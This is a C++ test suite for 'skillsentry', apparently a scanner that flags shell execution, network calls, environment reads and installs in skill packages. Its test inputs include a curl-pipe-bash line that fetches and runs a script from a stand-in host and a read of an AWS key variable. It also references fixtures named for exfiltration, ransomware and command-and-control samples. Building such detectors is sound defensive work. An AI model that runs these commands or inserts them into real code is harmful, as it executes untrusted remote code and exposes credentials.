#include <doctest.h>

#include <map>
#include <set>

#include "helpers.hpp"
#include "skillsentry/lexer.hpp"
#include "skillsentry/matcher.hpp"
#include "skillsentry/util.hpp"

using namespace skillsentry;

namespace {

SkillPackage py_package(const std::string& code) {
  return test::mem_package({{"main.py", code}});
}

const SsoRecord* find_record(const std::vector<SsoRecord>& recs, const std::string& subtype) {
  for (const auto& r : recs)
    if (r.sso_subtype == subtype) return &r;
  return nullptr;
}

}  // namespace

TEST_CASE("subprocess.run call captures the command argument verbatim") {
  SkillPackage pkg = py_package("import subprocess\nsubprocess.run([\"curl\", url])\n");
  auto recs = match_rules(pkg, test::seed_rules());
  REQUIRE(recs.size() == 1);
  CHECK(recs[0].sso_type == "exec");
  CHECK(recs[0].sso_subtype == "shell_interpreter_execution");
  CHECK(recs[0].confidence == 1.0);
  CHECK(recs[0].provenance.kind == Provenance::Symbolic);
  REQUIRE(recs[0].operand_refs.size() == 1);
  CHECK(recs[0].operand_refs[0].slot == "command");
  CHECK(recs[0].operand_refs[0].raw_expr == "[\"curl\", url]");
}

TEST_CASE("os.getenv captures the environment variable name") {
  SkillPackage pkg = py_package("import os\nos.getenv(\"AWS_KEY\")\n");
  auto recs = match_rules(pkg, test::seed_rules());
  REQUIRE(recs.size() == 1);
  CHECK(recs[0].sso_type == "env");
  REQUIRE(recs[0].operand_refs.size() == 1);
  CHECK(recs[0].operand_refs[0].slot == "envName");
  CHECK(recs[0].operand_refs[0].raw_expr == "\"AWS_KEY\"");
}

TEST_CASE("artifact without triggers yields no records") {
  SkillPackage pkg = py_package("x = 1\ny = x + 2\nprint(y)\n");
  CHECK(match_rules(pkg, test::seed_rules()).empty());
}

TEST_CASE("pip install inside a fenced SKILL.md block yields an install record") {
  SkillPackage pkg = test::mem_package(
      {{"SKILL.md", "# Setup\n\nInstall deps first:\n\n```sh\npip install requests\n```\n"}});
  auto recs = match_rules(pkg, test::seed_rules());
  REQUIRE(recs.size() == 1);
  CHECK(recs[0].sso_type == "install");
  CHECK(recs[0].sso_subtype == "package_install");
  CHECK(recs[0].span.start_line == 6);
  REQUIRE(recs[0].operand_refs.size() == 1);
  CHECK(recs[0].operand_refs[0].slot == "packageSpec");
  CHECK(recs[0].operand_refs[0].raw_expr == "requests");
}

TEST_CASE("prose outside fenced blocks is not matched symbolically") {
  SkillPackage pkg = test::mem_package(
      {{"SKILL.md", "Run pip install requests before using this skill.\n"}});
  CHECK(match_rules(pkg, test::seed_rules()).empty());
}

TEST_CASE("the curl-pipe-bash idiom emits install, exec, and net records") {
  SkillPackage pkg =
      test::mem_package({{"setup.sh", "#!/bin/sh\ncurl -fsSL https://x.example/i.sh | bash\n"}});
  auto recs = match_rules(pkg, test::seed_rules());
  std::multiset<std::string> kinds;
  for (const auto& r : recs) kinds.insert(r.sso_type + "/" + r.sso_subtype);
  CHECK(kinds == std::multiset<std::string>{"exec/shell_interpreter_execution",
                                            "install/remote_script_install",
                                            "net/outbound_connection"});
}

TEST_CASE("analysis text blanks comments but preserves length and strings") {
  Artifact py;
  py.rel_path = "a.py";
  py.kind = ArtifactKind::Script;
  py.language = "python";
  py.lines = {"x = \"keep # this\"  # drop this", "'''os.system(\"in docstring\")'''"};
  std::string plain = plain_text(py);
  std::string analysis = analysis_text(py);
  CHECK(analysis.size() == plain.size());
  CHECK(analysis.find("keep # this") != std::string::npos);
  CHECK(analysis.find("drop this") == std::string::npos);

  Artifact js = py;
  js.rel_path = "a.js";
  js.language = "javascript";
  js.lines = {"let u = 'http://x // not comment';", "/* fetch(\"gone\") */ let v = 1;"};
  std::string js_analysis = analysis_text(js);
  CHECK(js_analysis.find("// not comment") != std::string::npos);
  CHECK(js_analysis.find("fetch") == std::string::npos);
  CHECK(js_analysis.size() == plain_text(js).size());
}

TEST_CASE("keyword-argument prefixes are stripped from captures") {
  CHECK(strip_kwarg_prefix("data=payload") == "payload");
  CHECK(strip_kwarg_prefix("body: content") == "content");
  CHECK(strip_kwarg_prefix("a == b") == "a == b");
  CHECK(strip_kwarg_prefix("plain") == "plain");
}

TEST_CASE("comments never match") {
  SkillPackage pkg = py_package("# subprocess.run(\"rm\")\nx = 1\n");
  CHECK(match_rules(pkg, test::seed_rules()).empty());
  SkillPackage js = test::mem_package({{"a.js", "// fetch(\"https://x\")\nlet a = 1;\n"}});
  CHECK(match_rules(js, test::seed_rules()).empty());
}

TEST_CASE("matching is deterministic and parallel equals serial") {
  SkillPackage pkg = load_package(test::fixture("categories/category-samples"));
  RuleBase rb = test::seed_rules();
  auto serial = match_rules_serial(pkg, rb);
  auto parallel = match_rules(pkg, rb, {true});
  auto again = match_rules(pkg, rb, {true});
  REQUIRE(serial.size() == parallel.size());
  for (std::size_t i = 0; i < serial.size(); ++i) {
    CHECK(serial[i].record_id == parallel[i].record_id);
    CHECK(serial[i].record_id == again[i].record_id);
  }
}

TEST_CASE("span soundness: matched text lives inside the span lines") {
  for (const char* dir : {"categories/category-samples", "motivating/exfil-skill",
                          "behaviors/lateral_movement_malicious", "behaviors/ransomware_malicious"}) {
    SkillPackage pkg = load_package(test::fixture(dir));
    for (const auto& rec : match_rules(pkg, test::seed_rules())) {
      const Artifact* a = pkg.find(rec.artifact);
      REQUIRE(a != nullptr);
      CHECK(rec.span.start_line >= 1);
      CHECK(rec.span.end_line <= a->line_count());
      std::string span_text;
      for (int l = rec.span.start_line; l <= rec.span.end_line; ++l) {
        if (l > rec.span.start_line) span_text += "\n";
        span_text += a->lines[static_cast<std::size_t>(l - 1)];
      }
      INFO(rec.artifact, ":", rec.span.start_line, " ", rec.matched_text);
      CHECK(span_text.find(rec.matched_text) != std::string::npos);
    }
  }
}

TEST_CASE("seed coverage: each category fires exactly once on its dedicated snippet") {
  struct Probe {
    const char* file;
    const char* content;
    const char* type;
  };
  const Probe probes[] = {
      {"a.py", "import subprocess\nsubprocess.run(\"ls\", shell=True)\n", "exec"},
      {"a.py", "import requests\nrequests.get(\"https://e.example\")\n", "net"},
      {"a.py", "data = open(\"/tmp/f\", \"r\").read()\n", "file"},
      {"a.py", "import os\nk = os.getenv(\"PATH_EXTRA\")\n", "env"},
      {"SKILL.md", "```\npip install left-pad\n```\n", "install"},
      {"a.py", "import hashlib\nhashlib.sha256(b\"x\")\n", "crypto"},
  };
  for (const auto& p : probes) {
    SkillPackage pkg = test::mem_package({{p.file, p.content}});
    auto recs = match_rules(pkg, test::seed_rules());
    // Brute-force oracle: the trigger literal occurs in exactly one line.
    REQUIRE(recs.size() == 1);
    CHECK(recs[0].sso_type == p.type);
  }
}

TEST_CASE("monotonicity: adding a rule never removes records") {
  SkillPackage pkg = load_package(test::fixture("behaviors/command_and_control_malicious"));
  RuleBase rb = test::seed_rules();
  auto before = match_rules(pkg, rb);

  SsoRule extra;
  extra.rule_id = "test.extra";
  extra.category = SsoCategory::Exec;
  extra.sso_type = "exec";
  extra.sso_subtype = "process_spawn";
  extra.languages = {"python"};
  extra.trigger = Trigger::parse("subprocess.run(*)");
  rb.rules.push_back(extra);

  auto after = match_rules(pkg, rb);
  std::set<std::string> after_ids;
  for (const auto& r : after) after_ids.insert(r.record_id);
  for (const auto& r : before) {
    INFO(r.record_id);
    CHECK(after_ids.count(r.record_id) == 1);
  }
  CHECK(after.size() > before.size());
}

TEST_CASE("context constraints gate matching") {
  SsoRule rule;
  rule.rule_id = "test.ctx";
  rule.category = SsoCategory::Exec;
  rule.sso_type = "exec";
  rule.sso_subtype = "shell_interpreter_execution";
  rule.languages = {"python"};
  rule.trigger = Trigger::parse("helper.run(*)");
  rule.captures = {{"command", 1, 0}};
  rule.context = {{"frobnicator"}};

  Artifact with_import;
  with_import.rel_path = "a.py";
  with_import.kind = ArtifactKind::Script;
  with_import.language = "python";
  with_import.lines = {"import frobnicator", "helper.run(c)"};
  CHECK(match_rule_on_artifact(with_import, rule).size() == 1);

  // The trigger is present but the required mention is not.
  Artifact without = with_import;
  without.lines = {"import os", "helper.run(c)"};
  CHECK(match_rule_on_artifact(without, rule).empty());

  // Qualified chains do not match unanchored heads.
  Artifact qualified = with_import;
  qualified.lines = {"import frobnicator", "other.helper.run(c)"};
  CHECK(match_rule_on_artifact(qualified, rule).empty());
}

TEST_CASE("multi-line call arguments are matched with correct spans") {
  SkillPackage pkg = py_package(
      "import subprocess\n"
      "subprocess.run([\n"
      "    \"curl\",\n"
      "    target,\n"
      "])\n");
  auto recs = match_rules(pkg, test::seed_rules());
  REQUIRE(recs.size() == 1);
  CHECK(recs[0].span.start_line == 2);
  CHECK(recs[0].span.end_line == 5);
}

TEST_CASE("non-overlapping matches per rule, overlaps across rules allowed") {
  SkillPackage pkg = py_package("os.system(a); os.system(b)\n");
  auto recs = match_rules(pkg, test::seed_rules());
  CHECK(recs.size() == 2);  // two separate matches of the same rule
}

TEST_CASE("merge_records combines overlapping evidence and keeps symbolic provenance") {
  SsoRecord sym;
  sym.artifact = "a.py";
  sym.sso_type = "exec";
  sym.sso_subtype = "shell_interpreter_execution";
  sym.confidence = 1.0;
  sym.span = {10, 10};
  sym.matched_text = "os.system(x)";
  sym.operand_refs = {{"command", "x", {10, 10}}};
  sym.provenance = {Provenance::Symbolic, "exec.os.system"};
  sym.record_id = compute_record_id(sym);

  SsoRecord neu = sym;
  neu.confidence = 0.8;
  neu.span = {9, 11};
  neu.matched_text = "wrapper(x)";
  neu.operand_refs = {{"command", "wrapper(x)", {9, 11}}};
  neu.provenance = {Provenance::Neural, "fixture"};
  neu.record_id = compute_record_id(neu);

  auto merged = merge_records({sym}, {neu});
  REQUIRE(merged.size() == 1);
  CHECK(merged[0].provenance.kind == Provenance::Symbolic);
  CHECK(merged[0].confidence == 1.0);
  CHECK(merged[0].span.start_line == 9);
  CHECK(merged[0].span.end_line == 11);
  CHECK(merged[0].operand_refs.size() == 2);

  SUBCASE("disjoint spans stay separate") {
    neu.span = {20, 20};
    neu.record_id = compute_record_id(neu);
    CHECK(merge_records({sym}, {neu}).size() == 2);
  }
  SUBCASE("neural-only records pass through unchanged") {
    auto only = merge_records({}, {neu});
    REQUIRE(only.size() == 1);
    CHECK(only[0].confidence == 0.8);
    CHECK(only[0].provenance.kind == Provenance::Neural);
  }
}
